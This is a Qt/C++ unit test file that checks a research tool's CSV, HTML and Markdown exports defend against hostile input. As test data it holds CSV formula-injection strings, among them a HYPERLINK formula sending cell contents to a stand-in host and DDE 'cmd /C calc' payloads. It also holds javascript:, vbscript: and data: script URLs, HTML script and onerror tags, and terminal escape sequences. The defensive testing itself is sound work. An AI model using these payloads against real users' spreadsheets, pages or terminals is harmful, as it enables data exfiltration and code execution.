// SPDX-License-Identifier: GPL-3.0-or-later
// What a hostile bundle or note cannot do through an export: run formulas in
// a spreadsheet, put a script link in a page, inject markup through a note,
// or slip control characters into the files a researcher opens.
#include "exportwriters.h"

#include <QRegularExpression>
#include <QTest>
#include <QTextBlock>
#include <QTextDocument>

using namespace Lectern::Models;
using namespace Qt::StringLiterals;

namespace {

/// A set of one document and one annotation whose every text field a
/// stranger wrote.
ExportSet hostileSet(const QString &text, const QString &url = u"https://example.test/a"_s)
{
    ExportSet set;
    set.bundleName = u"Hostile"_s;
    set.bundleKey = u"hostile"_s;
    ExportDocument document;
    document.id = text;
    document.title = text;
    document.url = url;
    document.path = text;
    document.date = text;
    set.documents.append(document);
    ExportItem item;
    item.document = 0;
    item.start = 3;
    item.end = 10;
    item.annotation.id = u"11111111-2222-3333-4444-555555555555"_s;
    item.annotation.documentId = text;
    item.annotation.quote = text;
    item.annotation.note = text;
    item.annotation.tags = {text};
    item.annotation.author = text;
    item.codeName = text;
    item.codePath = text;
    set.items.append(item);
    return set;
}

QList<QStringList> parseCsv(const QByteArray &bytes)
{
    // RFC 4180 as a spreadsheet program reads it.
    QList<QStringList> rows;
    QStringList row;
    QString field;
    const QString text = QString::fromUtf8(bytes);
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            row.append(field);
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            row.append(field);
            rows.append(row);
            row.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return rows;
}

/// The link targets of an HTML page other than its own anchors ("#g1").
QStringList outboundHrefs(const QString &html)
{
    static const QRegularExpression href(u"href\\s*=\\s*\"([^\"]*)\""_s, QRegularExpression::CaseInsensitiveOption);
    QStringList targets;
    for (const QRegularExpressionMatch &match : href.globalMatch(html)) {
        if (!match.captured(1).startsWith(u'#'))
            targets.append(match.captured(1));
    }
    return targets;
}

/// What a Markdown viewer shows: the text and the link targets of the rendering.
struct RenderedMarkdown {
    QString text;
    QStringList links;
};

RenderedMarkdown render(const QString &markdown)
{
    QTextDocument document;
    document.setMarkdown(markdown, QTextDocument::MarkdownDialectGitHub);
    RenderedMarkdown rendered{document.toPlainText(), {}};
    for (QTextBlock block = document.begin(); block.isValid(); block = block.next()) {
        for (auto it = block.begin(); !it.atEnd(); ++it) {
            if (it.fragment().charFormat().isAnchor())
                rendered.links.append(it.fragment().charFormat().anchorHref());
        }
    }
    return rendered;
}

/// The C0 controls (other than tab, line feed and carriage return), DEL and C1 controls in @p text.
QString strayControls(const QString &text)
{
    QString found;
    for (const QChar c : text) {
        const char16_t u = c.unicode();
        if ((u < 0x20 && u != u'\t' && u != u'\n' && u != u'\r') || (u >= 0x7F && u <= 0x9F))
            found += u"\\x%1"_s.arg(int(u), 2, 16, QChar(u'0'));
    }
    return found;
}

} // namespace

class ExportEscapingTest final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void csvNeutralisesFormulas_data();
    void csvNeutralisesFormulas();
    void htmlLinksOnlySafeSchemes_data();
    void htmlLinksOnlySafeSchemes();
    void markdownNoteCannotInjectMarkup();
    void markdownLinksOnlySafeSchemes();
    void controlCharactersAreReplaced_data();
    void controlCharactersAreReplaced();
};

void ExportEscapingTest::csvNeutralisesFormulas_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("equals") << u"=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")"_s;
    QTest::newRow("dde") << u"=cmd|' /C calc'!A0"_s;
    QTest::newRow("plus") << u"+1+cmd|' /C calc'!A0"_s;
    QTest::newRow("minus") << u"-2+3+cmd|' /C calc'!A0"_s;
    QTest::newRow("at") << u"@SUM(1+9)*cmd|' /C calc'!A0"_s;
    QTest::newRow("tab") << u"\t=1+1"_s;
    QTest::newRow("carriage return") << u"\r=1+1"_s;
}

void ExportEscapingTest::csvNeutralisesFormulas()
{
    QFETCH(QString, text);
    const QList<QStringList> rows = parseCsv(csvExport(hostileSet(text, text), {}));
    QCOMPARE(rows.size(), 2);
    const QStringList &row = rows.at(1);
    // Every cell of text from the bundle or the store starts with an
    // apostrophe, so a spreadsheet program shows it instead of running it.
    for (const int column : {0, 1, 2, 5, 6, 7, 8, 10})
        QCOMPARE(row.at(column), u'\'' + text);
    // The numbers Lectern writes itself are left as numbers.
    QCOMPARE(row.at(3), u"3"_s);
    QCOMPARE(row.at(4), u"10"_s);

    // For tools that want the values exactly, the cells can be left raw.
    ExportOptions raw;
    raw.csvRawCells = true;
    const QStringList rawRow = parseCsv(csvExport(hostileSet(text, text), raw)).value(1);
    for (const int column : {0, 1, 2, 5, 6, 7, 8, 10})
        QCOMPARE(rawRow.at(column), text);
}

void ExportEscapingTest::htmlLinksOnlySafeSchemes_data()
{
    QTest::addColumn<QString>("url");
    QTest::addColumn<bool>("linked");
    QTest::newRow("https") << u"https://example.test/a?b=1&c=2"_s << true;
    QTest::newRow("http") << u"http://example.test/"_s << true;
    QTest::newRow("ftp") << u"ftp://example.test/file.txt"_s << true;
    QTest::newRow("mailto") << u"mailto:editor@example.test"_s << true;
    QTest::newRow("file") << u"file:///srv/archive/a.html"_s << true;
    QTest::newRow("relative") << u"pages/a.html"_s << true;
    QTest::newRow("upper case") << u"HTTPS://EXAMPLE.TEST/"_s << true;
    QTest::newRow("javascript") << u"javascript:alert(document.cookie)"_s << false;
    QTest::newRow("mixed case") << u"JaVaScRiPt:alert(1)"_s << false;
    QTest::newRow("leading space") << u"  javascript:alert(1)"_s << false;
    QTest::newRow("tab inside") << u"java\tscript:alert(1)"_s << false;
    QTest::newRow("newline inside") << u"java\nscript:alert(1)"_s << false;
    QTest::newRow("data") << u"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="_s << false;
    QTest::newRow("vbscript") << u"vbscript:msgbox(1)"_s << false;
}

void ExportEscapingTest::htmlLinksOnlySafeSchemes()
{
    QFETCH(QString, url);
    QFETCH(bool, linked);
    const QString html = QString::fromUtf8(htmlExport(hostileSet(u"Title"_s, url), {}));
    const QStringList hrefs = outboundHrefs(html);
    if (linked) {
        QVERIFY2(!hrefs.isEmpty(), qPrintable(html));
        for (const QString &href : hrefs)
            QCOMPARE(href, url.toHtmlEscaped());
    } else {
        QVERIFY2(hrefs.isEmpty(), qPrintable(hrefs.join(u'\n')));
        // The address is still there to read.
        QVERIFY2(html.contains(url.toHtmlEscaped()), qPrintable(html));
    }
}

void ExportEscapingTest::markdownNoteCannotInjectMarkup()
{
    const QString note = u"<script>alert(1)</script> <img src=x onerror=alert(2)> AT&T &amp; "
                         "[click](javascript:alert(3)) <javascript:alert(4)> **kept** `<b>code</b>`"_s;
    ExportSet set = hostileSet(u"Title"_s);
    set.items[0].annotation.note = note;
    set.items[0].annotation.quote = u"a <b>bold</b> & &lt;claim&gt;"_s;
    const QString markdown = QString::fromUtf8(markdownExport(set, {}));
    // No tag is left for a Markdown renderer to pass through as HTML.
    static const QRegularExpression rawTag(u"(?<!\\\\)<(script|img|b>bold)"_s);
    QVERIFY2(!rawTag.match(markdown).hasMatch(), qPrintable(markdown));

    // A viewer shows the note's words as written and links nowhere.
    const RenderedMarkdown rendered = render(markdown);
    QVERIFY2(rendered.text.contains(u"<script>alert(1)</script> <img src=x onerror=alert(2)> AT&T &amp; "
                                    "[click](javascript:alert(3)) <javascript:alert(4)> kept <b>code</b>"_s),
             qPrintable(rendered.text));
    QVERIFY2(rendered.text.contains(u"a <b>bold</b> & &lt;claim&gt;"_s), qPrintable(rendered.text));
    for (const QString &link : rendered.links)
        QVERIFY2(!link.contains(u"javascript"_s, Qt::CaseInsensitive), qPrintable(link));
    // The note's light Markdown still works.
    QVERIFY(markdown.contains(u"**kept**"_s));
}

void ExportEscapingTest::markdownLinksOnlySafeSchemes()
{
    const RenderedMarkdown hostile = render(QString::fromUtf8(markdownExport(hostileSet(u"T"_s, u"javascript:alert(1)"_s), {})));
    QVERIFY2(hostile.links.isEmpty(), qPrintable(hostile.links.join(u'\n')));
    QVERIFY(hostile.text.contains(u"javascript:alert(1)"_s));
    const RenderedMarkdown breakout =
        render(QString::fromUtf8(markdownExport(hostileSet(u"T"_s, u"https://example.test/><img src=x>"_s), {})));
    QVERIFY2(breakout.text.contains(u"https://example.test/><img src=x>"_s), qPrintable(breakout.text));
    const RenderedMarkdown safe = render(QString::fromUtf8(markdownExport(hostileSet(u"T"_s), {})));
    QVERIFY(safe.links.contains(u"https://example.test/a"_s));
}

void ExportEscapingTest::controlCharactersAreReplaced_data()
{
    QTest::addColumn<QString>("format");
    QTest::newRow("csv") << u"csv"_s;
    QTest::newRow("html") << u"html"_s;
    QTest::newRow("md") << u"md"_s;
}

void ExportEscapingTest::controlCharactersAreReplaced()
{
    QFETCH(QString, format);
    const QString text = u"bell\u0007 nul"_s + QChar(0) + u" escape\u001b[2J\u001b]0;owned\u0007 del\u007f csi\u009b1m end\ttab"_s;
    const ExportSet set = hostileSet(text, u"https://example.test/\u001b[2J"_s);
    QByteArray bytes;
    if (format == u"csv"_s)
        bytes = csvExport(set, {});
    else if (format == u"html"_s)
        bytes = htmlExport(set, {});
    else
        bytes = markdownExport(set, {});
    const QString written = QString::fromUtf8(bytes);
    QVERIFY2(!bytes.contains('\0'), "a NUL byte was written");
    QVERIFY2(strayControls(written).isEmpty(), qPrintable(strayControls(written)));
    // Each is replaced visibly, and the text around it kept.
    QVERIFY2(written.contains(u"bell\uFFFD nul\uFFFD escape\uFFFD"_s), qPrintable(written));
    QVERIFY(written.contains(u"end\ttab"_s) || written.contains(u"end&#9;tab"_s));
}

QTEST_MAIN(ExportEscapingTest)
#include "exportescaping_test.moc"
